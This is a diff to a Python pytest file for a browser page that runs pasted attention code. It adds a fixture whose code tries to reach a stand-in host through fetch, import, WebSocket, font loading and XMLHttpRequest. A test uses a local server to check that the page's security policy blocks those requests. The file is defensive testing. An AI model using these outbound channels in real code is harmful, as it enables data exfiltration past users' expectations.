@@ -1,7 +1,10 @@
 """*Is my attention right?*: paste, press, read; it is stopped, linked and kept; nothing is sent."""
 
 import re
+import threading
 import time
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 from built_site import HTML, ROOT
@@ -32,6 +35,21 @@ SENT = """import js
 
 def attention(q, k, v):
     js.postMessage(js.JSON.parse('{"kind": "keep", "part": "softmax", "text": "stolen"}'))
+    return q
+"""
+
+
+LEAKY = """import js
+
+
+def attention(q, k, v):
+    js.fetch("ADDRESS/by-fetch")
+    js.eval("import('ADDRESS/by-import')")
+    js.eval("new WebSocket('ADDRESS/by-socket'.replace('http', 'ws'))")
+    js.eval("new FontFace('x', 'url(ADDRESS/by-font)').load()")
+    request = js.XMLHttpRequest.new()
+    request.open("GET", "ADDRESS/by-request", False)
+    request.send()
     return q
 """
 
@@ -219,8 +237,47 @@ def test_stop_ends_a_loop_and_the_next_press_works(form):
 
 def test_what_never_returns_is_ended(form):
     here = form()
+    here.box.evaluate("e => { e.dataset.patience = 5 }")
     said, _ = here.judge(ENDLESS)
-    assert "had not ended" in said and "loop" in said
+    assert "It had not ended after 5 seconds" in said and "loop" in said
+    said, _ = here.judge(EXAMPLES["a scale of √d_model for √d_k"])
+    assert said.startswith("Wrong")
+
+
+@contextmanager
+def listening():
+    """Another host, as an address and the list of what it was asked for."""
+    asked = []
+
+    class Answer(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        def log_message(self, *_):
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_address[1]}", asked
+        server.shutdown()
+
+
+@pytest.mark.parametrize("sealed", [True, False])
+def test_what_a_strangers_code_sends_arrives_nowhere(sealed, new_page, site):
+    """Without the page's policy it would."""
+    page = new_page()
+    if not sealed:
+        meta = "<meta http-equiv=.Content-Security-Policy.[^>]*>"
+        html = re.sub(meta, "", (HTML / PAGE).read_text("utf-8"))
+        page.route(f"**/{PAGE}", lambda route: route.fulfill(body=html, content_type="text/html"))
+    with listening() as (address, asked):
+        page.goto(f"{site}/{PAGE}")
+        Form(page).judge(LEAKY.replace("ADDRESS", address))
+        page.wait_for_timeout(1000)
+        assert not asked if sealed else {"/by-fetch", "/by-import", "/by-request"} <= {*asked}
 
 
 def test_without_python_the_command_is_there(form, open_page):
